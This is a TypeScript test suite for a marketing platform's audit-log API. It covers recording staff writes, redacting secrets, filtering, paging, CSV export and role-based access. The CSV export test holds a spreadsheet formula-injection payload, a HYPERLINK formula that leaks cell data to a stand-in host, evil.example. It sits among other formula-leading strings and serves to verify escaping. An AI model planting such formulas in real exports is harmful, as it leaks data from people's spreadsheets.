import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AUDIT_CSV_COLUMNS,
  AUDIT_MESSAGES,
  MARKETING_ROLES,
  type AuditEntry,
  type AuditLogResponse,
  type MarketingRole,
} from '@platform/shared';
import { auditLog } from '../../db/schema/index';
import type { Actor } from '../../principal';
import { createWorld, type World } from '../../test/factories';
import { createTestApp, type TestApp } from '../../test/harness';
import { csvCell, csvLine } from './audit.csv';
import { EXPORT_PAGE_ROWS, REDACTED, type AuditRecord } from './audit.service';

let context: TestApp;
let world: World;
beforeAll(async () => {
  context = await createTestApp({ environment: { API_RATE_LIMIT_PER_MINUTE: '100000000' } });
  world = await createWorld(context);
});
afterAll(async () => {
  await context?.close();
});

type ErrorBody = { error: { code: string; message: string; details?: { field: string; message: string }[] } };

const LOG = '/server-api/marketing/audit-log';

/** A query string from the filters given, leaving out the empty ones. */
const query = (filters: Record<string, string | number | undefined>) => {
  const params = new URLSearchParams();
  for (const [name, value] of Object.entries(filters))
    if (value !== undefined) params.set(name, String(value));
  const text = params.toString();
  return text ? `?${text}` : '';
};

async function list(filters: Record<string, string | number | undefined> = {}) {
  const response = await world.as('Admin').get(`${LOG}${query(filters)}`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json<AuditLogResponse>();
}

function actorFor(role: MarketingRole, requestId = `req-${randomUUID().slice(0, 8)}`): Actor {
  const account = world.account(role);
  return { accountId: account.id, email: account.email, role, requestId };
}

/** Records entries through the service, each in a transaction of its own, as a staff write would. */
async function record(...records: AuditRecord[]) {
  for (const entry of records) {
    await context.db.transaction((tx) => context.services.audit.record(tx, entry));
  }
}

/** A scope of its own per test: a target type no other test uses, so the filters isolate its rows. */
const freshType = () => `kind-${randomUUID().slice(0, 8)}`;

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') {
        quoted = false;
      } else {
        field += character;
      }
    } else if (character === '"') {
      quoted = true;
    } else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 1;
    } else {
      field += character;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with CRLF');
  return records;
}

describe('recording staff writes', () => {
  it('lists what a staff route recorded, with the fields before and after', async () => {
    const admin = world.as('Admin');
    const created = await admin.post('/server-api/marketing/teams', { name: `Audit crew ${randomUUID()}` });
    expect(created.statusCode, created.body).toBe(201);
    const team = created.json<{ id: string; name: string }>();
    const renamed = await admin.patch(`/server-api/marketing/teams/${team.id}`, { name: `${team.name} 2` });
    expect(renamed.statusCode, renamed.body).toBe(200);

    const { items, total } = await list({ targetType: 'team', targetId: team.id });
    expect(total).toBe(2);
    const [rename, create] = items;
    const adminAccount = world.account('Admin');
    expect(rename).toMatchObject({
      actorId: adminAccount.id,
      actorEmail: adminAccount.email,
      actorRole: 'Admin',
      targetType: 'team',
      targetId: team.id,
      targetLabel: `${team.name} 2`,
      before: { name: team.name },
      after: { name: `${team.name} 2` },
      requestId: renamed.headers['x-request-id'],
    });
    expect(create).toMatchObject({ targetId: team.id, after: { name: team.name } });
    expect(Date.parse(rename?.at ?? '')).toBeGreaterThan(Date.parse(create?.at ?? ''));
  });

  it('keeps every record a service writes: who, what, the target, before, after and the request', async () => {
    const targetType = freshType();
    const actor = actorFor('TerritoryManager', 'req-abc');
    await record({
      actor,
      action: `${targetType}.update`,
      target: { type: targetType, id: 'target-1', label: 'North' },
      before: { name: 'North', countries: ['GB'] },
      after: { name: 'North', countries: ['GB', 'IE'] },
    });
    const { items } = await list({ targetType });
    expect(items).toEqual([
      {
        id: expect.any(String) as string,
        at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/) as string,
        actorId: actor.accountId,
        actorEmail: actor.email,
        actorRole: 'TerritoryManager',
        action: `${targetType}.update`,
        targetType,
        targetId: 'target-1',
        targetLabel: 'North',
        before: { name: 'North', countries: ['GB'] },
        after: { name: 'North', countries: ['GB', 'IE'] },
        requestId: 'req-abc',
      } satisfies AuditEntry,
    ]);
  });

  it('never keeps a password, token, secret, hint or hash, at any depth', async () => {
    const targetType = freshType();
    await record({
      actor: actorFor('Admin'),
      action: `${targetType}.invite`,
      target: { type: targetType, id: 'someone', label: 'someone@example.com' },
      before: null,
      after: {
        email: 'someone@example.com',
        password: 'Tr4vel-Nimbus-82!',
        passwordHash: '$argon2id$v=19$…',
        inviteToken: 'tok-123',
        hint: 'abc',
        apiSecret: 's3cr3t',
        nested: { resetToken: 'deep', role: 'Support', list: [{ TOKEN: 'in-a-list', keep: 1 }] },
      },
    });
    const [entry] = (await list({ targetType })).items;
    expect(entry?.before).toBeNull();
    expect(entry?.after).toEqual({
      email: 'someone@example.com',
      password: REDACTED,
      passwordHash: REDACTED,
      inviteToken: REDACTED,
      hint: REDACTED,
      apiSecret: REDACTED,
      nested: { resetToken: REDACTED, role: 'Support', list: [{ TOKEN: REDACTED, keep: 1 }] },
    });
    const exported = await world.as('Admin').get(`${LOG}/export${query({ targetType })}`);
    for (const secret of ['Tr4vel-Nimbus-82!', 'argon2id', 'tok-123', 's3cr3t', 'deep', 'in-a-list']) {
      expect(exported.body).not.toContain(secret);
    }
  });

  it('lands or fails with the write it records', async () => {
    const targetType = freshType();
    await expect(
      context.db.transaction(async (tx) => {
        await context.services.audit.record(tx, {
          actor: actorFor('Admin'),
          action: `${targetType}.create`,
          target: { type: targetType, id: 'x', label: 'x' },
        });
        throw new Error('the write failed');
      }),
    ).rejects.toThrow('the write failed');
    expect((await list({ targetType })).total).toBe(0);
  });
});

describe('GET /server-api/marketing/audit-log', () => {
  it('filters by person, target type and target, newest first', async () => {
    const targetType = freshType();
    const support = actorFor('Support');
    const manager = actorFor('CampaignManager');
    await record(
      {
        actor: support,
        action: `${targetType}.create`,
        target: { type: targetType, id: 'a', label: 'Alpha' },
      },
      {
        actor: manager,
        action: `${targetType}.rename`,
        target: { type: targetType, id: 'a', label: 'Alpha 2' },
      },
      {
        actor: support,
        action: `${targetType}.create`,
        target: { type: targetType, id: 'b', label: 'Beta' },
      },
    );

    const all = await list({ targetType });
    expect(all.items.map((item) => item.targetLabel)).toEqual(['Beta', 'Alpha 2', 'Alpha']);

    const bySupport = await list({ targetType, actorId: support.accountId });
    expect(bySupport.items.map((item) => item.targetLabel)).toEqual(['Beta', 'Alpha']);

    const ofA = await list({ targetType, targetId: 'a' });
    expect(ofA.items.map((item) => item.action)).toEqual([`${targetType}.rename`, `${targetType}.create`]);

    const unfiltered = await list({ targetType, actorId: '', targetId: '', from: '', to: '', search: '' });
    expect(unfiltered.total).toBe(3);

    const nobody = await list({ targetType, actorId: randomUUID() });
    expect(nobody).toEqual({ items: [], total: 0, page: 1, pageSize: 25 });
  });

  it('searches the action, the target label and the actor’s email, wildcards taken literally', async () => {
    const targetType = freshType();
    const marketer = actorFor('CampaignMarketer');
    await record(
      {
        actor: marketer,
        action: `${targetType}.create`,
        target: { type: targetType, id: '1', label: 'Summer 50% off' },
      },
      {
        actor: marketer,
        action: `${targetType}.archive`,
        target: { type: targetType, id: '2', label: 'Winter_sale' },
      },
      {
        actor: actorFor('Admin'),
        action: `${targetType}.create`,
        target: { type: targetType, id: '3', label: 'Spring' },
      },
    );
    const labels = async (search: string) =>
      (await list({ targetType, search })).items.map((item) => item.targetLabel);

    expect(await labels('ARCHIVE')).toEqual(['Winter_sale']);
    expect(await labels('summer')).toEqual(['Summer 50% off']);
    expect(await labels(marketer.email.toUpperCase())).toEqual(['Winter_sale', 'Summer 50% off']);
    expect(await labels('50%')).toEqual(['Summer 50% off']);
    expect(await labels('%')).toEqual(['Summer 50% off']);
    expect(await labels('Winte_')).toEqual([]);
    expect(await labels('r_sale')).toEqual(['Winter_sale']);
    expect(await labels('   ')).toEqual(['Spring', 'Winter_sale', 'Summer 50% off']);
  });

  it('filters by date: whole days in UTC from a date, exact instants from a date and time', async () => {
    const targetType = freshType();
    const admin = world.account('Admin');
    const moments = {
      lastOfMarch4: '2026-03-04T23:59:59.999Z',
      firstOfMarch5: '2026-03-05T00:00:00.000Z',
      lastOfMarch5: '2026-03-05T23:59:59.999Z',
      firstOfMarch6: '2026-03-06T00:00:00.000Z',
    };
    await context.db.insert(auditLog).values(
      Object.entries(moments).map(([label, at]) => ({
        id: randomUUID(),
        at: new Date(at),
        actorId: admin.id,
        actorEmail: admin.email,
        actorRole: 'Admin',
        action: `${targetType}.edit`,
        targetType,
        targetId: label,
        targetLabel: label,
      })),
    );
    const labels = async (filters: Record<string, string>) =>
      (await list({ targetType, ...filters })).items.map((item) => item.targetLabel);

    expect(await labels({ from: '2026-03-05' })).toEqual(['firstOfMarch6', 'lastOfMarch5', 'firstOfMarch5']);
    expect(await labels({ to: '2026-03-05' })).toEqual(['lastOfMarch5', 'firstOfMarch5', 'lastOfMarch4']);
    expect(await labels({ from: '2026-03-05', to: '2026-03-05' })).toEqual(['lastOfMarch5', 'firstOfMarch5']);
    expect(await labels({ from: moments.firstOfMarch5, to: moments.firstOfMarch5 })).toEqual([
      'firstOfMarch5',
    ]);
    expect(await labels({ from: '2026-03-05T00:00:00.001Z' })).toEqual(['firstOfMarch6', 'lastOfMarch5']);
    expect(await labels({ to: '2026-03-05T10:59:59.999+11:00' })).toEqual(['lastOfMarch4']);
    expect(await labels({ from: '1900-01-01', to: '9999-12-31' })).toHaveLength(4);
  });

  it('pages the log, with the total of every matching entry', async () => {
    const targetType = freshType();
    const actor = actorFor('Admin');
    for (let index = 1; index <= 7; index += 1) {
      await record({
        actor,
        action: `${targetType}.edit`,
        target: { type: targetType, id: `${index}`, label: `Entry ${index}` },
      });
    }
    const page = async (number: number) => list({ targetType, page: number, pageSize: 3 });

    expect(await page(1)).toMatchObject({ total: 7, page: 1, pageSize: 3 });
    expect((await page(1)).items.map((item) => item.targetId)).toEqual(['7', '6', '5']);
    expect((await page(2)).items.map((item) => item.targetId)).toEqual(['4', '3', '2']);
    expect((await page(3)).items.map((item) => item.targetId)).toEqual(['1']);
    expect(await page(4)).toEqual({ items: [], total: 7, page: 4, pageSize: 3 });
    expect((await list({ targetType })).pageSize).toBe(25);
  });

  it('answers 400 with each field’s message for filters it cannot use, and writes nothing', async () => {
    const before = await context.rowCounts();
    const refused = async (filters: Record<string, string>) => {
      const response = await world.as('Admin').get(`${LOG}${query(filters)}`);
      expect(response.statusCode, response.body).toBe(400);
      return response.json<ErrorBody>().error;
    };

    const backwards = await refused({ from: '2026-03-06', to: '2026-03-05' });
    expect(backwards.code).toBe('VALIDATION_FAILED');
    expect(backwards.message).toBe(AUDIT_MESSAGES.toBeforeFrom);
    expect(backwards.details).toEqual([{ field: 'to', message: AUDIT_MESSAGES.toBeforeFrom }]);
    expect((await refused({ from: '2026-03-05T10:00:00Z', to: '2026-03-05T09:59:59Z' })).details).toEqual([
      { field: 'to', message: AUDIT_MESSAGES.toBeforeFrom },
    ]);

    for (const from of [
      'yesterday',
      '2026-02-30',
      '2026-3-5',
      '2026-03-05T10:00:00',
      '0000-01-01',
      '10000-01-01',
    ]) {
      expect((await refused({ from })).details, from).toEqual([
        { field: 'from', message: AUDIT_MESSAGES.fromInvalid },
      ]);
    }
    expect((await refused({ to: '05/03/2026' })).details).toEqual([
      { field: 'to', message: AUDIT_MESSAGES.toInvalid },
    ]);
    expect((await refused({ actorId: 'not-a-uuid' })).details).toEqual([
      { field: 'actorId', message: AUDIT_MESSAGES.actorUnknown },
    ]);
    expect((await refused({ targetType: 'x'.repeat(101) })).details).toEqual([
      { field: 'targetType', message: AUDIT_MESSAGES.targetTypeTooLong },
    ]);
    expect((await refused({ pageSize: '101' })).details?.[0]?.field).toBe('pageSize');
    expect((await refused({ page: '0' })).details?.[0]?.field).toBe('page');
    expect(await context.rowCounts()).toEqual(before);
  });
});

describe('GET /server-api/marketing/audit-log/actors and /target-types', () => {
  it('lists each person once, by the email of their latest entry, sorted, and searchable', async () => {
    const targetType = freshType();
    const personId = randomUUID();
    const renamedPerson = (email: string): Actor => ({ accountId: personId, email, role: 'Support' });
    await record(
      {
        actor: renamedPerson('old-name@example.com'),
        action: `${targetType}.edit`,
        target: { type: targetType, id: '1', label: 'x' },
      },
      {
        actor: renamedPerson('aaa-new-name@example.com'),
        action: `${targetType}.edit`,
        target: { type: targetType, id: '2', label: 'y' },
      },
    );
    const response = await world.as('Admin').get(`${LOG}/actors`);
    expect(response.statusCode).toBe(200);
    const { items } = response.json<{ items: { id: string; email: string }[] }>();
    expect(items.filter((item) => item.id === personId)).toEqual([
      { id: personId, email: 'aaa-new-name@example.com' },
    ]);
    const emails = items.map((item) => item.email);
    expect(emails).toEqual([...emails].sort());

    const searched = await world.as('Admin').get(`${LOG}/actors?search=NEW-NAME`);
    expect(searched.json()).toEqual({ items: [{ id: personId, email: 'aaa-new-name@example.com' }] });
    const none = await world.as('Admin').get(`${LOG}/actors?search=old-name`);
    expect(none.json()).toEqual({ items: [] });
  });

  it('lists the kinds of record the log holds, once each, sorted', async () => {
    const [later, earlier] = ['zz-' + freshType(), 'aa-' + freshType()];
    await record(
      { actor: actorFor('Admin'), action: `${later}.edit`, target: { type: later, id: '1', label: 'x' } },
      { actor: actorFor('Admin'), action: `${earlier}.edit`, target: { type: earlier, id: '1', label: 'x' } },
      { actor: actorFor('Admin'), action: `${earlier}.edit`, target: { type: earlier, id: '2', label: 'x' } },
    );
    const response = await world.as('Admin').get(`${LOG}/target-types`);
    expect(response.statusCode).toBe(200);
    const { items } = response.json<{ items: string[] }>();
    expect(items.filter((type) => type === earlier || type === later)).toEqual([earlier, later]);
    expect(items).toEqual([...items].sort());
  });
});

describe('GET /server-api/marketing/audit-log/export', () => {
  it('answers a CSV attachment named for today, with a header row and every column', async () => {
    const targetType = freshType();
    const actor = actorFor('CampaignMarketer', 'req-export');
    await record({
      actor,
      action: `${targetType}.rename`,
      target: { type: targetType, id: 'c-1', label: 'Autumn' },
      before: { name: 'Fall' },
      after: { name: 'Autumn' },
    });
    const [entry] = (await list({ targetType })).items;
    const today = context.clock.now().toISOString().slice(0, 10);

    const response = await world.as('Admin').get(`${LOG}/export${query({ targetType })}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="audit-log-${today}.csv"`);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body.startsWith('\ufeff')).toBe(true);
    expect(parseCsv(response.body.slice(1))).toEqual([
      [...AUDIT_CSV_COLUMNS],
      [
        entry?.at,
        actor.email,
        'CampaignMarketer',
        `${targetType}.rename`,
        targetType,
        'c-1',
        'Autumn',
        '{"name":"Fall"}',
        '{"name":"Autumn"}',
        'req-export',
      ],
    ]);
  });

  it('neutralises formulas and quotes commas, quotes and line breaks', async () => {
    const targetType = freshType();
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const labels = [
      hostile,
      '+1 555',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTabbed',
      '\rReturn',
      'Say "hi", then\nleave',
    ];
    for (const [index, label] of labels.entries()) {
      await record({
        actor: actorFor('Admin'),
        action: `${targetType}.edit`,
        target: { type: targetType, id: `${index}`, label },
      });
    }
    const response = await world.as('Admin').get(`${LOG}/export${query({ targetType })}`);
    const rows = parseCsv(response.body.slice(1)).slice(1);
    const labelColumn = AUDIT_CSV_COLUMNS.indexOf('Target label');
    expect(rows.map((row) => row[labelColumn])).toEqual(
      [...labels.slice(0, -1).map((label) => `'${label}`), 'Say "hi", then\nleave'].reverse(),
    );
    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(response.body).toContain('"Say ""hi"", then\nleave"');
  });

  it('writes cells as RFC 4180 says, guarding each character a spreadsheet would run', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvLine(['a', 'b,c', null])).toBe('a,"b,c",\r\n');
  });

  it('applies the list’s filters and refuses the same bad ones', async () => {
    const targetType = freshType();
    const support = actorFor('Support');
    await record(
      { actor: support, action: `${targetType}.edit`, target: { type: targetType, id: '1', label: 'Kept' } },
      {
        actor: actorFor('Admin'),
        action: `${targetType}.edit`,
        target: { type: targetType, id: '2', label: 'Left out' },
      },
    );
    const response = await world
      .as('Admin')
      .get(`${LOG}/export${query({ targetType, actorId: support.accountId, search: 'kep' })}`);
    const rows = parseCsv(response.body.slice(1));
    expect(rows.map((row) => row[AUDIT_CSV_COLUMNS.indexOf('Target label')])).toEqual([
      'Target label',
      'Kept',
    ]);

    const backwards = await world
      .as('Admin')
      .get(`${LOG}/export${query({ from: '2026-03-06', to: '2026-03-05' })}`);
    expect(backwards.statusCode).toBe(400);
    expect(backwards.headers['content-type']).toContain('application/json');
    expect(backwards.json<ErrorBody>().error.details).toEqual([
      { field: 'to', message: AUDIT_MESSAGES.toBeforeFrom },
    ]);
  });

  it('streams every row of a log longer than one read, in order, none twice', async () => {
    const targetType = freshType();
    const count = EXPORT_PAGE_ROWS * 2 + 37;
    const admin = world.account('Admin');
    // Many rows share an instant, so that the order among equal times is tested too.
    const base = Date.parse('2026-05-01T12:00:00.000Z');
    const rows = Array.from({ length: count }, (_, index) => ({
      id: randomUUID(),
      at: new Date(base + Math.floor(index / 10) * 1000),
      actorId: admin.id,
      actorEmail: admin.email,
      actorRole: 'Admin',
      action: `${targetType}.edit`,
      targetType,
      targetId: String(index),
      targetLabel: `Row ${index}`,
      before: null,
      after: { index },
      requestId: null,
    }));
    for (let start = 0; start < rows.length; start += 500) {
      await context.db.insert(auditLog).values(rows.slice(start, start + 500));
    }
    const response = await world.as('Admin').get(`${LOG}/export${query({ targetType })}`);
    expect(response.statusCode).toBe(200);
    const records = parseCsv(response.body.slice(1)).slice(1);
    expect(records).toHaveLength(count);
    const ids = records.map((record) => record[AUDIT_CSV_COLUMNS.indexOf('Target ID')]);
    expect(new Set(ids).size).toBe(count);
    const expected = [...rows]
      .sort((a, b) => b.at.getTime() - a.at.getTime() || (a.id < b.id ? 1 : a.id > b.id ? -1 : 0))
      .map((row) => row.targetId);
    expect(ids).toEqual(expected);
  });
});

describe('odd filters', () => {
  it('answers an Admin’s malformed filters with 200 or a 400 in the error format, never a 5xx', async () => {
    const value = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.string({ unit: 'grapheme', maxLength: 10 }),
      fc.constantFrom(
        '',
        ' ',
        '%',
        '_',
        '\\',
        "'",
        '2026-03-05',
        '9999-12-31T23:59:59-14:00',
        '1900-01-01T00:00:00+14:00',
      ),
      fc.uuid(),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
    );
    const name = fc.constantFrom(
      'search',
      'actorId',
      'targetType',
      'targetId',
      'from',
      'to',
      'page',
      'pageSize',
    );
    const cases = fc.sample(
      fc.tuple(
        fc.constantFrom(LOG, `${LOG}/actors`, `${LOG}/export`),
        fc.array(fc.tuple(name, value), { maxLength: 4 }),
      ),
      { numRuns: 300, seed: 20261121 },
    );
    const failures: string[] = [];
    for (const [path, pairs] of cases) {
      const url = `${path}?${pairs.map(([key, text]) => `${key}=${encodeURIComponent(text)}`).join('&')}`;
      const response = await world.as('Admin').get(url);
      if (response.statusCode !== 200 && response.statusCode !== 400) {
        failures.push(`${url} answered ${response.statusCode}: ${response.body.slice(0, 200)}`);
      }
    }
    expect(failures).toEqual([]);
  });
});

describe('who may read the audit log', () => {
  const paths = [LOG, `${LOG}/actors`, `${LOG}/target-types`, `${LOG}/export`];

  it('answers an Admin, and refuses every other role (403), a creator (403) and anyone signed out (401)', async () => {
    for (const path of paths) {
      expect((await world.as('Admin').get(path)).statusCode, path).toBe(200);
      for (const role of MARKETING_ROLES.filter((candidate) => candidate !== 'Admin')) {
        const response = await world.as(role).get(path);
        expect(response.statusCode, `${role} ${path}`).toBe(403);
        expect(response.body).not.toContain('@');
      }
      expect((await world.as('Creator').get(path)).statusCode, path).toBe(403);
      expect((await world.as('Anonymous').get(path)).statusCode, path).toBe(401);
    }
  });
});
